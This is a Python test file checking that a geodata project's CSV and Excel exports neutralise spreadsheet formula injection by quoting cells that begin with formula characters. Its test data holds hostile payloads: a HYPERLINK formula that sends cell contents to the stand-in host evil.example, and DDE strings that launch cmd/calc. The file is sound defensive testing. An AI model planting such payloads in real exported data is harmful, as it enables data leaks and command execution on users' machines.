"""Spreadsheet formula injection (OWASP "CSV injection"): names such as =HYPERLINK(...) in
the data, a title or a link parameter never reach a CSV or Excel file as a live formula."""
from __future__ import annotations

import csv
import io
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest

from geodata.files import csv_bytes, spreadsheet_safe
from geodata.join import diagnostics_csv

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1"]


def test_spreadsheet_safe_quotes_text_and_leaves_numbers():
    frame = pd.DataFrame({
        "name": HOSTILE + ["Boston", None],
        "value": [-2.5, -1, 0, 1, 2, 3, 4, np.nan, -7],
        "count": pd.array([-1, 2, None, 4, 5, 6, 7, 8, 9], dtype="Int64"),
        "kind": pd.Categorical(["=a", "b", "=a", "b", "b", "b", "b", "b", "b"]),
        "=evil column": ["x"] * 9,
    })
    safe = spreadsheet_safe(frame)
    assert safe["name"].tolist()[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert safe["name"].iloc[-2] == "Boston" and pd.isna(safe["name"].iloc[-1])
    pd.testing.assert_series_equal(safe["value"], frame["value"])     # numbers untouched
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    assert safe["kind"].tolist()[:2] == ["'=a", "b"]
    assert "'=evil column" in safe.columns
    assert frame["name"].iloc[0] == HOSTILE[0]                         # the input is not changed


def test_csv_bytes_cells_start_with_a_quote():
    frame = pd.DataFrame({"name": HOSTILE, "value": range(-3, len(HOSTILE) - 3)},
                         index=pd.Index(["=A1"] + [f"r{i}" for i in range(len(HOSTILE) - 1)],
                                        name="region_id"))
    rows = list(csv.reader(io.StringIO(csv_bytes(frame, index=True).decode("utf-8"))))
    assert rows[0] == ["region_id", "name", "value"]
    assert rows[1][0] == "'=A1"
    assert [r[1] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert [r[2] for r in rows[1:]] == [str(v) for v in range(-3, len(HOSTILE) - 3)]
    assert rows[1][2] == "-3"                                          # a number, not quoted


def test_join_diagnostics_csv_is_safe():
    frame = pd.DataFrame({"section": ["key matched no region"] * 2, "key": ["=1+1", "@x"],
                          "name": ["", "+y"], "amount": [-12.5, 3.0], "rows": [1, 2],
                          "detail": ["", "-z"]})
    rows = list(csv.reader(io.StringIO(diagnostics_csv(frame).decode("utf-8"))))
    assert rows[1][1] == "'=1+1" and rows[2][1] == "'@x" and rows[2][2] == "'+y"
    assert rows[1][3] == "-12.5" and rows[2][5] == "'-z"


class HostileNames:
    """The US workspace with every region renamed to a formula."""

    def __init__(self, data):
        self._data = data

    def __getattr__(self, name):
        return getattr(self._data, name)

    def names(self, level):
        ids = self._data.names(level)
        return {r: HOSTILE[i % len(HOSTILE)] for i, r in enumerate(ids)}


@pytest.fixture(scope="module")
def hostile_view(us):
    from exports.compose import compose

    c = compose(us, {"level": "state", "measure": "change", "years": "2022"})
    c = replace(c, title="=HYPERLINK(\"http://evil.example\")", subtitle="+cmd",
                ignored=("@SUM(1)", "-2+3"))
    return HostileNames(us), c


def test_excel_export_has_no_formula_cell_on_any_sheet(hostile_view):
    from exports.data import to_excel

    data, c = hostile_view
    wb = openpyxl.load_workbook(io.BytesIO(to_excel(data, c)))
    assert {"Map data", "View", "Reconciliation"} <= set(wb.sheetnames)
    texts, numbers = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), \
                        (ws.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    for h in HOSTILE + ['=HYPERLINK("http://evil.example")', "+cmd", "@SUM(1)"]:
        # XML text reads a lone CR back as LF; what matters is the quote in front
        assert "'" + h.replace("\r", "\n") in texts, h
    assert any(n < 0 for n in numbers)          # a change map has negative numbers: kept


def test_csv_export_cells_start_with_a_quote(hostile_view):
    from exports.data import to_csv

    data, c = hostile_view
    rows = list(csv.DictReader(io.StringIO(to_csv(data, c).decode("utf-8"))))
    names = [r["name"] for r in rows]
    assert names and all(n.startswith("'") for n in names)
    assert {n[1:] for n in names} == set(HOSTILE)
    values = [float(r["value"]) for r in rows if r["value"]]
    assert any(v < 0 for v in values)           # negative numbers stay numbers
